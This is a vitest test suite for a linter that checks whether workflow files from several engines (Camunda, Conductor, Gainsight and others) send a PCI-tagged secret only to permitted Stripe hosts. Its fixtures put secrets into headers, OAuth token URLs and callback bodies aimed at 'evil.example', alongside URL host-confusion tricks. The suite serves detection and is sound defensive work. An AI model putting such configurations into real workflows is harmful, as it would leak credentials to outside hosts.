/** One secret, one limit and one workflow of each engine: both verdicts, and where the finding stands. */
import { describe, expect, it } from 'vitest';
import { checked, findings, store } from '../project.js';

interface Case {
  readonly file: string;
  /** `URL` stands for the request's URL. */
  readonly workflow: string;
}

const bpmn = (inputs: Readonly<Record<string, string>>) =>
  `<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:zeebe="http://camunda.org/schema/zeebe/1.0">
<bpmn:process id="p"><bpmn:serviceTask id="t" zeebe:modelerTemplate="io.camunda.connectors.HttpJson.v2"><bpmn:extensionElements><zeebe:ioMapping>
${Object.entries(inputs)
  .map(([target, source]) => `<zeebe:input source="${source.replaceAll('"', '&#34;')}" target="${target}" />`)
  .join('\n')}
</zeebe:ioMapping></bpmn:extensionElements></bpmn:serviceTask></bpmn:process></bpmn:definitions>
`;

const json = (value: unknown) => `${JSON.stringify(value, null, 1)}\n`;

const ENGINES: Readonly<Record<string, Case>> = {
  camunda: { file: 'flow.bpmn', workflow: bpmn({ url: 'URL', 'headers.X-Key': '{{secrets.KEY}}' }) },
  conductor: {
    file: 'flow.json',
    workflow: json({
      name: 'f',
      tasks: [
        {
          name: 'c',
          taskReferenceName: 'c',
          type: 'HTTP',
          inputParameters: { http_request: { uri: 'URL', headers: { 'X-Key': '${workflow.secrets.KEY}' } } },
        },
      ],
    }),
  },
  gainsight: {
    file: 'flow.json',
    workflow: json({ name: 'f', url: 'URL', headers: [{ key: 'X-Key', value: "{{ get_secret('KEY') }}" }] }),
  },
  orka: {
    file: 'flow.json',
    workflow: json({ id: 'f', nodes: [{ id: 'n', url: 'URL', headers: { 'X-Key': '{{secrets.KEY}}' } }] }),
  },
  jelou: {
    file: 'flow.yaml',
    workflow: 'id: f\nnodes:\n  - id: n\n    url: URL\n    headers:\n      X-Key: "{{$secret.KEY}}"\n',
  },
  inhouse: {
    file: 'flow.json',
    workflow: json({ call: { to: 'URL', with: { headers: { 'X-Key': '<<KEY>>' } } } }),
  },
};

const INHOUSE =
  'engines:\n  inhouse: { reference: "<<NAME>>", destinations: [{ within: call, path: to }], categories: [{ key: "headers", category: headers }] }\n';

function files(engine: string, url: string, allow: string) {
  const found = ENGINES[engine];
  if (!found) throw new Error(engine);
  const { file, workflow } = found;
  return {
    'claviger.yaml': `version: 1\nlevels: [organization, project]\nstores:\n  - { files: secrets.yaml, scope: acme }\ncatalogs:\n  - { files: catalog.yaml, scope: acme }\nworkflows:\n  - { files: ${file}, engine: ${engine}, scope: acme/chat }\n${INHOUSE}access:\n  - { tags: [pci], allow: { hosts: ["*.stripe.com"] } }\n`,
    'secrets.yaml': store('KEY'),
    'catalog.yaml': `KEY:\n  tags: [pci]\n  allow: ${allow}\n`,
    [file]: workflow.replace('URL', url),
  };
}

const found = (engine: string, url: string, allow = '{ fields: [headers] }') =>
  checked(files(engine, url, allow)).diagnostics.filter(({ rule }) => rule === 'use-not-allowed');

describe.each(Object.keys(ENGINES))('in %s', (engine) => {
  it('a permitted use is no finding', () => {
    expect(found(engine, 'https://api.stripe.com/v1')).toEqual([]);
    const all = `{ scopes: [acme/chat], workflows: ["flow.*"], engines: [${engine}], fields: [headers], hosts: [api.stripe.com] }`;
    expect(found(engine, 'https://api.stripe.com/v1', all)).toEqual([]);
  });

  it.each([
    ['scopes', '{ scopes: [acme/payments] }', '`KEY` may not be used in acme/chat: it is for acme/payments'],
    [
      'workflows',
      '{ workflows: ["projects/payments/**"] }',
      '`KEY` may not be used in this workflow: it is for projects/payments/**',
    ],
    [
      'fields',
      '{ fields: [auth, query] }',
      '`KEY` may not be used in a field of category headers: it is for auth or query',
    ],
    [
      'hosts',
      '{ hosts: [api.example.com] }',
      '`KEY` may not be sent to api.stripe.com: it is for api.example.com',
    ],
  ])('%s of the entry forbid', (_, allow, message) => {
    const [finding, ...more] = found(engine, 'https://api.stripe.com/v1', allow);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({
      message,
      severity: 'error',
      secret: 'KEY',
      environments: ['default'],
      engine,
    });
    expect(finding?.related[0]).toMatchObject({
      file: 'catalog.yaml',
      message: expect.stringContaining(' of the entry of `KEY` forbids it'),
    });
  });

  it('engines of the entry forbid', () => {
    const other = engine === 'camunda' ? 'orka' : 'camunda';
    const [finding] = found(engine, 'https://api.stripe.com/v1', `{ engines: [${other}] }`);
    expect(finding?.message).toMatch(new RegExp(`^\`KEY\` may not be used in .*: it is for ${other}$`));
  });

  it.each([
    'https://api.stripe.com.evil.example/',
    'https://api.stripe.com@evil.example/',
    'https://stripe.com/',
    'https://api.stripe.com:8443/',
  ])('the rule of a tag forbids %s', (url) => {
    const [finding] = found(engine, url);
    expect(finding?.message).toMatch(/^`KEY` may not be sent to .*: it is for \*\.stripe\.com$/);
    expect(finding?.related).toMatchObject([
      { file: 'claviger.yaml', message: '`hosts` of the rule for `pci` forbids it' },
      { file: ENGINES[engine]?.file, message: 'the request goes here' },
    ]);
  });

  it('a destination that is not known is refused', () => {
    const [finding] = found(engine, '/v1/charges');
    expect(finding?.message).toBe(
      '`KEY` may only be sent to *.stripe.com, and where this request goes is not known before run time',
    );
  });
});

it.each(['api.stripe.com/v1', 'api.stripe.com', 'API.stripe.com:443'])('%s has no scheme', (url) => {
  expect(found('jelou', url)).toMatchObject([
    {
      message: '`KEY` may only be sent to *.stripe.com, and the URL of this request has no scheme',
      help: 'write the URL with its scheme, as in `https://host/path`',
    },
  ]);
});

describe('what is not known before run time', () => {
  it.each([
    ['camunda', '= "https://" + host + "/v1"', 1],
    ['camunda', '= "https://api.stripe.com/" + path', 0],
    ['camunda', '= "https://api.stripe.com" + path', 1],
    ['camunda', '= if a then "https://api.stripe.com/" else b', 1],
    ['camunda', 'https://{{secrets.KEY}}/', 2],
    ['conductor', 'https://api.stripe.com/v1/${workflow.input.id}', 0],
    ['conductor', 'https://${workflow.input.id}.stripe.com/', 1],
    ['conductor', '${workflow.input.base}/v1', 1],
    ['gainsight', 'https://api.stripe.com/{{ id }}', 0],
    ['gainsight', '{{ base }}/v1', 1],
    ['orka', 'https://api.stripe.com/{{id}}', 0],
    ['orka', 'https://{{id}}.stripe.com', 1],
    ['inhouse', 'https://<<KEY>>.stripe.com/', 2],
  ])('%s: %s', (engine, url, count) => {
    const text = url.replaceAll('"', engine === 'camunda' ? '&#34;' : '"');
    expect(found(engine, text)).toHaveLength(count);
  });
});

it('stands at the name, and says each line that forbids', () => {
  const report = checked(files('jelou', 'https://evil.example', '{ fields: [auth] }'));
  expect(findings(report, 'use-not-allowed')).toEqual(['use-not-allowed flow.yaml:6:25 KEY']);
  const [finding] = report.diagnostics.filter(({ rule }) => rule === 'use-not-allowed');
  expect(finding?.related.map(({ file, message }) => [file, message])).toEqual([
    ['catalog.yaml', '`fields` of the entry of `KEY` forbids it'],
    ['claviger.yaml', '`hosts` of the rule for `pci` forbids it'],
  ]);
});

describe('of several URLs', () => {
  const findingsIn = (engine: string, workflow: string) => {
    const file = ENGINES[engine]?.file ?? '';
    const project = files(engine, '', '{ hosts: [api.stripe.com] }');
    return checked({ ...project, [file]: workflow }).diagnostics.filter(
      ({ rule }) => rule === 'use-not-allowed',
    );
  };
  const oauth = (key: string) =>
    `nodes:\n  - url: https://api.stripe.com\n    auth:\n      ${key}: https://evil.example/token\n      secret: "{{$secret.KEY}}"\n`;

  it.each(['tokenUrl', 'token_uri', 'accessTokenUrl', 'access_token_url', 'authUrl', 'url', 'URL'])(
    'that of %s has to be permitted too, and is the one that is named',
    (key) => {
      const [finding, ...more] = findingsIn('jelou', oauth(key));
      expect(more).toEqual([]);
      expect(finding?.message).toBe('`KEY` may not be sent to evil.example: it is for api.stripe.com');
      expect(finding?.related.at(-1)?.message).toBe('the request goes here');
      expect(finding?.related.at(-1)?.span.start).toBe(oauth(key).indexOf('https://evil.example'));
    },
  );

  it.each([
    'authorizationUrl',
    'oauthTokenEndpoint',
    'TokenUrl',
    'TOKEN_URL',
    'host',
    'href',
    'Server',
    'proxy',
    'webhook-url',
  ])('what is called %s may be one', (key) => {
    expect(findingsIn('jelou', oauth(key))).toHaveLength(1);
    expect(
      findingsIn('jelou', oauth(key).replace('https://evil.example/token', 'evil.example')),
    ).toHaveLength(1);
    expect(findingsIn('jelou', oauth(key).replace('https://evil.example/token', '{ a: 1 }'))).toHaveLength(1);
    expect(findingsIn('jelou', oauth(key).replace('https://evil.example/token', 'false'))).toEqual([]);
    expect(findingsIn('jelou', oauth(key).replace('evil.example', 'api.stripe.com'))).toEqual([]);
  });

  it('what is called like one, alone, is none', () => {
    const workflow = 'nodes:\n  - server: https://api.stripe.com\n    headers: { A: "{{$secret.KEY}}" }\n';
    const [finding] = findingsIn('jelou', workflow);
    expect(finding?.message).toContain('no part of a request whose destination is known');
  });

  it.each([
    ['= { url: "https://evil.example", key: "{{secrets.KEY}}" }', 1],
    ['= { "url" : "https://evil.example", key: "{{secrets.KEY}}" }', 1],
    ['= { "\\u0075rl": "https://evil.example", key: "{{secrets.KEY}}" }', 1],
    ['= { url: "https://api.stripe.com" + domain, key: "{{secrets.KEY}}" }', 1],
    ['= { url: address, key: "{{secrets.KEY}}" }', 1],
    ['= context put({ key: "{{secrets.KEY}}" }, "url", "https://evil.example")', 1],
    ['= "{\\"url\\": \\"https://evil.example\\", \\"key\\": \\"{{secrets.KEY}}\\"}"', 1],
    ['{ "webhook_url": "https://evil.example", "key": "{{secrets.KEY}}" }', 1],
    ['= "{\\"url\\": \\"https://api.stripe.com\\", \\"key\\": \\"{{secrets.KEY}}\\"}"', 0],
    ['= { url: "https://api.stripe.com/v1", key: "{{secrets.KEY}}" }', 0],
    ['= { curl: "https://evil.example", key: "{{secrets.KEY}}" }', 0],
    ['the url: {{secrets.KEY}}', 0],
  ])('in Camunda a context or JSON in the field holds them, too: %s', (body, count) => {
    expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }))).toHaveLength(count);
  });

  it.each([
    [{ 'body.callback.url': 'https://evil.example', 'body.callback.token': '{{secrets.KEY}}' }, 1],
    [{ 'body.callback.url': 'https://evil.example', 'body.callback.with.token': '{{secrets.KEY}}' }, 1],
    [{ 'body.callback.Target_URL': 'https://evil.example', body: '{{secrets.KEY}}' }, 1],
    [{ body: '= { url: "https://evil.example" }', 'body.token': '{{secrets.KEY}}' }, 1],
    [{ 'body.proxyUrl': '= region', 'body.token': '{{secrets.KEY}}' }, 1],
    [{ webhookUrl: 'https://evil.example', 'body.token': '{{secrets.KEY}}' }, 1],
    [{ 'body.callback.url': 'https://api.stripe.com/cb', 'body.callback.token': '{{secrets.KEY}}' }, 0],
    [{ 'body.callback.curl': 'https://evil.example', 'body.callback.token': '{{secrets.KEY}}' }, 0],
    [{ 'body.callback.url': 'https://evil.example', 'body.token': '{{secrets.KEY}}' }, 0],
    [{ 'body.callback.url': 'https://evil.example', 'headers.X-Key': '{{secrets.KEY}}' }, 0],
  ])('in Camunda targets with dots make one document: %j', (inputs, count) => {
    expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', ...inputs }))).toHaveLength(count);
  });

  it('a text with very many is not gone through for each reference', () => {
    const many = (count: number) =>
      `[${'{"url":"https://api.stripe.com/v1","key":"x"},'.repeat(count)}"{{secrets.KEY}}"]`;
    const verdict = (body: string) => findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }));
    expect(verdict(many(100))).toEqual([]);
    expect(verdict(many(101))).toHaveLength(1);
  });

  it.each([
    [{ callback: { uri: 'https://evil.example', headers: { A: '${workflow.secrets.KEY}' } } }, 1],
    [{ callback: { Target_URL: 'https://evil.example', with: { A: '${workflow.secrets.KEY}' } } }, 1],
    ['{"url":"https://evil.example","key":"${workflow.secrets.KEY}"}', 1],
    [{ callback: { uri: 'https://api.stripe.com/cb', headers: { A: '${workflow.secrets.KEY}' } } }, 0],
    [{ callback: { uri: 'https://evil.example' }, key: '${workflow.secrets.KEY}' }, 0],
  ])('in Conductor what is nested in a body is sent on: %j', (body, count) => {
    const http_request = { uri: 'https://api.stripe.com', body };
    const task = { name: 'c', taskReferenceName: 'c', type: 'HTTP', inputParameters: { http_request } };
    expect(findingsIn('conductor', json({ name: 'f', tasks: [task] }))).toHaveLength(count);
  });

  const authentication = { type: 'oauth_client_credentials', config: {} };
  it.each(['token_url', 'url', 'tokenUri'])('in Gainsight that of the token counts: %s', (key) => {
    const config = { [key]: 'https://evil.example', client_secret: "{{ get_secret('KEY') }}" };
    const workflow = {
      name: 'f',
      url: 'https://api.stripe.com',
      authentication: { ...authentication, config },
    };
    expect(findingsIn('gainsight', json(workflow))).toHaveLength(1);
  });

  it('in Camunda an expression for the whole authentication may hold one', () => {
    const inputs = (authentication: string) => bpmn({ url: 'https://api.stripe.com', authentication });
    const context = '= { oauthTokenEndpoint: "https://evil.example", clientSecret: "{{secrets.KEY}}" }';
    expect(findingsIn('camunda', inputs(context))).toHaveLength(1);
  });

  it('in Camunda that of GraphQL is a destination', () => {
    const inputs = (url: string) => bpmn({ 'graphql.url': url, 'authentication.token': '{{secrets.KEY}}' });
    expect(findingsIn('camunda', inputs('https://api.stripe.com/graphql'))).toEqual([]);
    expect(findingsIn('camunda', inputs('https://evil.example/graphql'))).toHaveLength(1);
  });
});

describe('in Conductor', () => {
  const verdictOf = (type: string | undefined) => {
    const inputParameters = {
      http_request: { uri: 'https://api.stripe.com', headers: { 'X-Key': '${workflow.secrets.KEY}' } },
    };
    const task = { name: 'c', taskReferenceName: 'c', ...(type && { type }), inputParameters };
    const project = files('conductor', '', '{ hosts: [api.stripe.com] }');
    return checked({ ...project, 'flow.json': json({ name: 'f', tasks: [task] }) }).diagnostics.filter(
      ({ rule }) => rule === 'use-not-allowed',
    );
  };

  it.each(['HTTP', 'HTTP_POLL', 'SIMPLE', 'DYNAMIC', undefined])(
    '%s sends what is in `http_request`',
    (type) => {
      expect(verdictOf(type)).toEqual([]);
    },
  );

  it.each([
    'SET_VARIABLE',
    'INLINE',
    'SUB_WORKFLOW',
    'EVENT',
    'TERMINATE',
    'JSON_JQ_TRANSFORM',
    'KAFKA_PUBLISH',
  ])('%s sends it nowhere that is known', (type) => {
    expect(verdictOf(type)).toHaveLength(1);
  });
});

describe('environments', () => {
  const config = `version: 1
environments: [dev, prod]
stores:
  - { files: "{environment}.yaml", scope: acme }
  - { files: "config/{environment}.yaml", scope: acme, encrypted: false }
catalogs:
  - { files: catalog.yaml, scope: acme }
workflows:
  - { files: flow.json, engine: conductor, scope: acme }
`;
  const workflow = (uri: string) =>
    json({
      name: 'f',
      tasks: [
        {
          name: 'c',
          taskReferenceName: 'c',
          type: 'HTTP',
          inputParameters: { http_request: { uri, headers: { 'X-Key': '${workflow.secrets.KEY}' } } },
        },
      ],
    });
  const base = (dev: string, prod: string) => ({
    'claviger.yaml': config,
    'dev.yaml': store('KEY'),
    'prod.yaml': store('KEY'),
    'config/dev.yaml': `BASE: ${dev}\n`,
    'config/prod.yaml': `BASE: ${prod}\n`,
    'catalog.yaml': 'KEY: { allow: { hosts: [api.stripe.com] } }\n',
    'flow.json': workflow('${workflow.env.BASE}/v1'),
  });

  it('a plain variable is looked up in each', () => {
    const report = checked(base('https://test.example', 'https://api.stripe.com'));
    expect(report.diagnostics.filter(({ rule }) => rule === 'use-not-allowed')).toMatchObject([
      { environments: ['dev'], message: '`KEY` may not be sent to test.example: it is for api.stripe.com' },
    ]);
    expect(
      findings(checked(base('https://api.stripe.com/x', 'https://api.stripe.com')), 'use-not-allowed'),
    ).toEqual([]);
  });

  it('a variable without a host of its own does not help', () => {
    expect(findings(checked(base('api.stripe.com', 'https:')), 'use-not-allowed')).toHaveLength(1);
  });

  it('variables themselves are subject to nothing', () => {
    const report = checked({
      ...base('https://api.stripe.com', 'https://api.stripe.com'),
      'catalog.yaml': 'KEY: { allow: { hosts: [api.stripe.com] } }\nBASE: { allow: { fields: [auth] } }\n',
    });
    expect(findings(report, 'use-not-allowed')).toEqual([]);
  });
});

describe('what matches nothing', () => {
  it('is said of tags, scopes and patterns, with what was meant', () => {
    const report = checked({
      'claviger.yaml': `version: 1
stores: [{ files: secrets.yaml, scope: acme }]
catalogs: [{ files: catalog.yaml, scope: acme }]
workflows: [{ files: "flows/*.yaml", engine: orka, scope: acme/pay }]
access:
  - { tags: [pic], allow: { scopes: [acme/pya] } }
  - { tags: [pci], allow: { scopes: [acme, acme/pay], workflows: ["flows/*"] } }
`,
      'secrets.yaml': store('KEY'),
      'catalog.yaml': 'KEY: { tags: [pci], allow: { workflows: [flows/b.yaml, "flows/a.*"] } }\n',
      'flows/a.yaml': 'x: "{{secrets.KEY}}"\n',
    });
    expect(findings(report)).toEqual([
      'matches-nothing catalog.yaml:1:42 KEY',
      'matches-nothing claviger.yaml:6:14',
      'matches-nothing claviger.yaml:6:38',
    ]);
    expect(report.diagnostics.map(({ help }) => help)).toEqual([
      'did you mean `flows/a.yaml`?',
      'did you mean `pci`?',
      'did you mean `acme/pay`?',
    ]);
  });
});
